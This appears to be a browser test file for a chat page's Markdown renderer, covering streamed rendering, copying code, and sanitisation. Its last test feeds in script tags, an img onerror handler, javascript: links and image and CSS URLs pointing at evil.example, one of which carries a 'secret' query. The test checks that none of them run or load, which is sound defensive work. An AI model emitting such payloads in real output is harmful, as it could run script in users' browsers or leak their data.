/** Markdown in a real browser, under the page's own policy: what only a document can show. */
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { launchBrowser } from '../support/page/browser.ts';
import { longAnswer } from '../support/page/markdown-samples.ts';
import { ask, type Site, staged, startSite, visit, words } from '../support/page/site.ts';

let browser: Browser;
let site: Site;

beforeAll(async () => {
  [browser, site] = await Promise.all([launchBrowser(), startSite()]);
});
afterAll(async () => {
  await browser?.close();
  await site?.[Symbol.asyncDispose]();
});

const shown = (page: Page) => page.locator('.md').first();
const colours = (page: Page) =>
  page.evaluate(() => [...CSS.highlights].reduce((sum, [, highlight]) => sum + highlight.size, 0));

it('ends in the same document whether an answer streamed or was there from the start', async () => {
  const [text = ''] = longAnswer.split('## 第 5 步');
  site.answer(words(...(text.match(/[\s\S]{1,7}/g) ?? [])));
  await using visitor = await visit(browser, site.url);
  const { page } = visitor;
  await ask(page, 'Everything, please');
  // Four sections with two formulas each.
  await expect.poll(() => shown(page).locator('math').count()).toBe(8);
  await expect.poll(() => page.locator('.figures').count()).toBe(1);
  await expect.poll(() => colours(page)).toBeGreaterThan(20);
  const streamed = await shown(page).innerHTML();
  expect(streamed).toContain('<strong>注意：</strong>正文');
  await page.reload();
  await expect.poll(() => shown(page).innerHTML()).toBe(streamed);
  expect(
    await shown(page)
      .locator('math')
      .first()
      .evaluate((math) => math.namespaceURI),
  ).toBe('http://www.w3.org/1998/Math/MathML');
  visitor.expectPeace();
});

it('lets a reader select in code that is still arriving, and copies it exactly', async () => {
  const code = 'const first = "中\\t";\n\n  let second = first;\n';
  const answer = staged();
  site.answer(answer.script);
  await using visitor = await visit(browser, site.url, {
    permissions: ['clipboard-read', 'clipboard-write'],
  });
  const { page } = visitor;
  await ask(page, 'Code, please');
  answer.say('Here:\n\n```js\nconst fir');
  const block = shown(page).locator('code');
  await expect.poll(() => block.innerText()).toBe('const fir');
  await block.evaluate((element) => {
    const node = element.firstChild;
    if (node) getSelection()?.setBaseAndExtent(node, 0, node, 5);
  });
  answer.say(code.slice(9));
  await expect.poll(() => block.textContent()).toBe(code.slice(0, -1));
  answer.say('```\n\nThat was it.');
  answer.finish();
  await expect.poll(() => shown(page).innerText()).toContain('That was it.');
  await expect.poll(() => colours(page)).toBeGreaterThan(2);
  expect(await page.evaluate(() => String(getSelection()))).toBe('const');
  expect(await block.evaluate((element) => element.childNodes.length)).toBe(1);
  await shown(page).locator('.md-code .md-copy').click();
  await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toBe(code.slice(0, -1));
  visitor.expectPeace();
});

it('runs nothing and fetches nothing that an answer tells it to', async () => {
  site.answer(
    words(
      '<script>document.title = "run"</script><img src="https://evil.example/a.png" onerror="document.title = 1">\n\n',
      '![secret](https://evil.example/?q=secret) [a](javascript:document.title=1) [b](data:text/html,x)\n\n',
      '<iframe src="https://evil.example"></iframe><style>@import "https://evil.example/a.css"</style>\n\n',
      '$$\\includegraphics{https://evil.example/b.png}$$ \\(\\href{javascript:document.title=1}{x}\\)\n\nThe end.',
    ),
  );
  await using visitor = await visit(browser, site.url);
  const { page } = visitor;
  await ask(page, 'Be nasty');
  await expect.poll(() => shown(page).innerText()).toContain('The end.');
  await expect.poll(() => page.locator('.figures').count()).toBe(1);
  expect(await shown(page).locator('script, img, iframe, style, math').count()).toBe(0);
  const links = shown(page).locator('a');
  expect(await links.evaluateAll((all) => all.map((link) => link.getAttribute('href')))).toEqual([
    'https://evil.example/?q=secret',
    'https://evil.example/a.css',
  ]);
  expect(await links.first().innerText()).toContain('evil.example');
  expect(await page.title()).not.toMatch(/^(?:run|1)$/);
  visitor.expectPeace();
});
